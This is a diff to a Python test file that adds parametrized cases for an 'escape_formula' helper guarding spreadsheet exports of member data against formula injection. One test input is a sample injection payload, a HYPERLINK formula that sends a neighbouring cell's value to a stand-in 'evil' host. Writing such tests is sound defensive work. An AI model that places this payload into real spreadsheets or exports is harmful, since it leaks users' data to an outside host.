@@ -10,6 +10,7 @@ import pytest
 from openpyxl import load_workbook
 
 from members.scoping import mask
+from members.spreadsheets import escape_formula
 
 from .conftest import admin_url
 
@@ -84,3 +85,23 @@ def test_formulae_are_escaped_in_xlsx(org, client_for):
 def test_export_needs_admin_access(org, client_for):
     response = client_for("member_a").get(admin_url("member_export") + "?format=csv")
     assert response.status_code == 302
+
+
+@pytest.mark.parametrize(
+    "value, expected",
+    [
+        ('=HYPERLINK("http://evil/?"&B3,"x")', '\'=HYPERLINK("http://evil/?"&B3,"x")'),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("李安", "李安"),
+        ("", ""),
+        (-5, -5),
+        (1.5, 1.5),
+        (None, None),
+    ],
+)
+def test_escape_formula_prefixes_formula_text_and_leaves_numbers(value, expected):
+    assert escape_formula(value) == expected
